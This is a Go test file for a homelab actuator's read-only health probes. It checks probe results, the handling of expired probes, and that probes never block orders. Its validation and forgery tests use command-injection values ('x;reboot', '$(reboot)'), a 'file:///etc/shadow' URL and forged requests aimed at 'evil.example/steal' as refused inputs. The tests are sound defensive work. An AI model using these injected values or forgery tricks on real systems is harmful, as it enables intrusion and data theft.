package actuator

import (
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/hibiken/asynq"

	"github.com/nomoshq/nomos/internal/labsim"
	"github.com/nomoshq/nomos/policy"
	"github.com/nomoshq/nomos/tasks"
)

func TestProbes(t *testing.T) {
	t.Parallel()
	b := setup(t)
	jellyfin, spare, node := b.jellyfin(), b.lxc(103, "spare"), b.node()
	ran := map[string]bool{}
	cases := []struct {
		id     string
		kind   string
		target tasks.Target
		spec   map[string]any
		health string
		detail string
		metric string
		value  float64
	}{
		{"http-ok", "http", jellyfin, nil, healthy, "GET http://jellyfin:8096/health answered 200", "http_status", 200},
		{"http-spec-path", "http", jellyfin, map[string]any{"path": "/health", "expect_status": 200}, healthy, "GET http://jellyfin:8096/health answered 200", "http_status", 200},
		{"http-unexpected-status", "http", jellyfin, map[string]any{"expect_status": 204}, unhealthy, "answered 200, want 204", "http_status", 200},
		{"http-by-address", "http", withIP(jellyfin, "10.0.0.21"), nil, healthy, "GET http://10.0.0.21:8096/health answered 200", "http_status", 200},
		{"cannot-run", "systemd", jellyfin, map[string]any{"unit": "x;reboot"}, unhealthy, "the check cannot run: invalid probe: systemd", "", 0},
		{"http-closed", "http", jellyfin, map[string]any{"url": "http://jellyfin:9999/"}, unhealthy, "Couldn't connect", "", 0},
		{"tcp-open", "tcp", jellyfin, nil, healthy, "listens on TCP port 8096", "", 0},
		{"tcp-closed", "tcp", jellyfin, map[string]any{"port": 9999}, unhealthy, "nothing listens on TCP port 9999", "", 0},
		{"systemd-active", "systemd", jellyfin, nil, healthy, "jellyfin.service is active", "", 0},
		{"systemd-missing", "systemd", jellyfin, map[string]any{"unit": "nosuch"}, unhealthy, "nosuch is inactive", "", 0},
		{"disk", "disk", jellyfin, nil, healthy, "/ is ", "disk_used_pct", 7},
		{"disk-tight", "disk", jellyfin, map[string]any{"warn_pct": 1}, degraded, "/ is ", "disk_used_pct", 7},
		{"running", "pct_status", jellyfin, nil, healthy, "container 101 is running", "", 0},
		{"stopped", "pct_status", spare, nil, unhealthy, "container 103 is stopped", "", 0},
		{"dns", "dns", jellyfin, nil, healthy, "deb.debian.org resolves to ", "", 0},
		{"ping", "ping", node, map[string]any{"host": "jellyfin"}, healthy, "jellyfin: 0% packet loss", "loss_pct", 0},
	}
	// Every probe goes out first: their results come back in batches, a
	// second apart at the least.
	for _, tc := range cases {
		b.probe(t, tasks.CheckRun{CheckID: "check-" + tc.id, TargetID: "entity-" + tc.id, Kind: tc.kind, Target: tc.target, Spec: tc.spec})
	}
	for _, tc := range cases {
		ran[tc.kind] = true
		t.Run(tc.id, func(t *testing.T) {
			got := b.results.check(t, "check-"+tc.id)
			diff(t, "target id", "entity-"+tc.id, got.TargetID)
			diff(t, "health", tc.health, got.Health)
			contains(t, "detail", got.Detail, tc.detail)
			if tc.metric != "" {
				diff(t, tc.metric, tc.value, got.Metrics[tc.metric])
			}
		})
	}
	diff(t, "probes are read-only: nothing changed state", 0, countMutations(t, b))
	// Every kind a seed may name runs here, and nothing else does.
	for _, k := range policy.CheckKinds() {
		if !ran[k] {
			t.Errorf("check kind %s can be seeded but this test never runs it", k)
		}
		delete(ran, k)
	}
	for k := range ran {
		t.Errorf("the actuator runs check kind %s, which seeds cannot name", k)
	}
}

// TestExpiredProbeIsDropped: a probe whose slot passed while it sat in
// the queue (the actuator was down) is not run and reports nothing; its
// next slot replaces it.
func TestExpiredProbeIsDropped(t *testing.T) {
	t.Parallel()
	b := setup(t)
	jellyfin := b.jellyfin()
	past := time.Now().Add(-time.Minute)
	for _, c := range []tasks.CheckRun{
		{CheckID: "check-expired", TargetID: "entity-1", Kind: "dns", Target: jellyfin,
			Spec: map[string]any{"name": "expired.example"}, IssuedAt: past.Add(-time.Minute), ExpiresAt: past},
		{CheckID: "check-current", TargetID: "entity-1", Kind: "dns", Target: jellyfin,
			Spec: map[string]any{"name": "current.example"}, IssuedAt: time.Now(), ExpiresAt: time.Now().Add(time.Minute)},
	} {
		b.probe(t, c)
	}
	b.results.check(t, "check-current")
	for _, m := range b.results.wait(t, "what arrived", func([]message) bool { return true }) {
		if m.Type == tasks.TypeCheckResult && m.Check.CheckID == "check-expired" {
			t.Errorf("the expired probe reported %+v", m.Check)
		}
	}
	for _, e := range b.commands(t) {
		if strings.Contains(e.Command, "expired.example") {
			t.Errorf("the expired probe ran %q", e.Command)
		}
	}
}

// TestProbesNeverHoldUpAnOrder: probes stuck on a hung command fill their
// own pool, and an approved order still runs at once beside them.
func TestProbesNeverHoldUpAnOrder(t *testing.T) {
	t.Parallel()
	b := setup(t, withConfig(func(c *Config) { c.Concurrency, c.ProbeConcurrency, c.ProbeHostShare = 2, 2, 2 }))
	if err := b.sim.Inject(labsim.Fault{Kind: labsim.FaultHang, Target: "101", Match: "getent hosts"}); err != nil {
		t.Fatal(err)
	}
	jellyfin := b.jellyfin()
	for i := range 4 {
		b.probe(t, tasks.CheckRun{CheckID: fmt.Sprintf("check-hung-%d", i), TargetID: "entity-1", Kind: "dns",
			Target: jellyfin, IssuedAt: time.Now(), ExpiresAt: time.Now().Add(time.Minute)})
	}
	hung := func() int {
		n := 0
		for _, c := range b.sim.Running() {
			if strings.Contains(c, "getent hosts") {
				n++
			}
		}
		return n
	}
	deadline := time.Now().Add(waitTimeout)
	for hung() < 2 {
		if time.Now().After(deadline) {
			t.Fatalf("the probes never filled their pool: running %v", b.sim.Running())
		}
		time.Sleep(20 * time.Millisecond)
	}
	res := b.run(t, b.order(t, "x-beside-probes", policy.RestartParams{}, jellyfin))
	diff(t, "status", tasks.StatusSucceeded, res.Status)
	if n := hung(); n < 2 {
		t.Errorf("the order ran only after the hung probes gave up (%d still hung)", n)
	}
}

func withIP(t tasks.Target, ip string) tasks.Target {
	t.IP = ip
	return t
}

// countMutations counts commands in labsim's log that a probe must never
// send.
func countMutations(t *testing.T, b *bundle) int {
	n := 0
	for _, e := range b.commands(t) {
		for _, word := range []string{"start", "stop", "restart", "create", "destroy", "snapshot", "rollback", "apt-get", "rm "} {
			if containsWord(e.Command, word) {
				n++
			}
		}
	}
	return n
}

func containsWord(s, w string) bool {
	for i := 0; i+len(w) <= len(s); i++ {
		if s[i:i+len(w)] == w && (i == 0 || s[i-1] == ' ') {
			return true
		}
	}
	return false
}

func TestProbeSpecValidation(t *testing.T) {
	t.Parallel()
	target := tasks.Target{HostAddr: "127.0.0.1:1", VMID: 101, Hostname: "jellyfin", Port: 8096}
	for _, tc := range []struct {
		name string
		c    tasks.CheckRun
	}{
		{"unknown kind", tasks.CheckRun{Kind: "exec", Target: target}},
		{"url with shell", tasks.CheckRun{Kind: "http", Target: target, Spec: map[string]any{"url": "http://x/$(reboot)"}}},
		{"url with credentials", tasks.CheckRun{Kind: "http", Target: target, Spec: map[string]any{"url": "http://u:p@x/"}}},
		{"url of another scheme", tasks.CheckRun{Kind: "http", Target: target, Spec: map[string]any{"url": "file:///etc/shadow"}}},
		{"unit with shell", tasks.CheckRun{Kind: "systemd", Target: target, Spec: map[string]any{"unit": "x;reboot"}}},
		{"relative disk path", tasks.CheckRun{Kind: "disk", Target: target, Spec: map[string]any{"path": "../etc"}}},
		{"dns name with a space", tasks.CheckRun{Kind: "dns", Target: target, Spec: map[string]any{"name": "a b"}}},
		{"ping option", tasks.CheckRun{Kind: "ping", Target: target, Spec: map[string]any{"host": "-f"}}},
		{"tcp without a port", tasks.CheckRun{Kind: "tcp", Target: tasks.Target{HostAddr: "x:22"}}},
		{"pct_status on a host", tasks.CheckRun{Kind: "pct_status", Target: tasks.Target{HostAddr: "x:22"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := &Actuator{}
			if _, err := a.probe(t.Context(), tc.c); err == nil {
				t.Errorf("want the probe refused before anything runs")
			}
		})
	}
}

// TestForgedProbesRunNothing: someone who can write to Redis, but holds
// no key of the bot's, asks the actuator to fetch a URL of their choosing
// from the hypervisor. Nothing runs and nothing is reported.
func TestForgedProbesRunNothing(t *testing.T) {
	t.Parallel()
	// One probe worker, so the good probe at the end is handled after
	// every forged one before it.
	b := setup(t, withConfig(func(c *Config) { c.ProbeConcurrency = 1 }))
	_, strangerKey, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	steal := map[string]any{"url": "http://evil.example/steal?from=hypervisor"}
	fetch := func(id string) tasks.CheckRun {
		return tasks.CheckRun{CheckID: id, TargetID: "entity-1", Actuator: tasks.DefaultActuator, Kind: "http", Target: b.jellyfin(),
			Spec: steal, IssuedAt: time.Now(), ExpiresAt: time.Now().Add(time.Minute)}
	}
	genuine := func(c tasks.CheckRun) []byte {
		env, err := tasks.SignCheckRun(b.signKey, c)
		if err != nil {
			t.Fatal(err)
		}
		return env
	}
	relabel := func(payload []byte, typ string) []byte {
		var env tasks.Envelope
		if err := json.Unmarshal(payload, &env); err != nil {
			t.Fatal(err)
		}
		env.Type = typ
		out, _ := json.Marshal(env)
		return out
	}
	for _, tc := range []struct {
		name    string
		payload []byte
	}{
		{"unsigned", func() []byte { raw, _ := json.Marshal(fetch("forged-unsigned")); return raw }()},
		{"signed by a stranger", func() []byte {
			env, err := tasks.SignCheckRun(strangerKey, fetch("forged-stranger"))
			if err != nil {
				t.Fatal(err)
			}
			return env
		}()},
		{"url swapped into a genuine request", func() []byte {
			c := fetch("forged-swapped")
			c.Spec = nil
			var env tasks.Envelope
			if err := json.Unmarshal(genuine(c), &env); err != nil {
				t.Fatal(err)
			}
			env.Body = json.RawMessage(strings.Replace(string(env.Body), `"kind":"http"`, `"spec":{"url":"http://evil.example/steal?from=hypervisor"},"kind":"http"`, 1))
			out, _ := json.Marshal(env)
			return out
		}()},
		{"a genuine order delivered as a probe", b.sign(t, b.order(t, "forged-order", policy.RestartParams{}, b.jellyfin()))},
		{"a genuine order relabelled as a probe", relabel(b.sign(t, b.order(t, "forged-relabelled", policy.RestartParams{}, b.jellyfin())), tasks.TypeCheckRun)},
		{"for another actuator", func() []byte {
			c := fetch("forged-west")
			c.Actuator = "actuator-west"
			return genuine(c)
		}()},
	} {
		if _, err := b.queue.Enqueue(asynq.NewTask(tasks.TypeCheckRun, tc.payload, asynq.Queue(tasks.ProbeQueue(tasks.DefaultSite)), asynq.MaxRetry(0))); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
	}
	b.probe(t, tasks.CheckRun{CheckID: "check-after", TargetID: "entity-1", Kind: "dns", Target: b.jellyfin()})
	diff(t, "the good probe after the forged ones", healthy, b.results.check(t, "check-after").Health)

	for _, e := range b.commands(t) {
		if strings.Contains(e.Command, "evil.example") || strings.Contains(e.Command, "restart") {
			t.Errorf("a forged probe ran %q", e.Command)
		}
	}
	diff(t, "labsim ran only the good probe", []string{"pct exec 101 -- getent hosts 'deb.debian.org'"}, commandLines(b.commands(t)))
	for _, m := range b.results.wait(t, "what arrived", func([]message) bool { return true }) {
		if m.Type != tasks.TypeCheckResult || m.Check.CheckID != "check-after" {
			t.Errorf("a forged probe was answered: %+v", m)
		}
	}
}
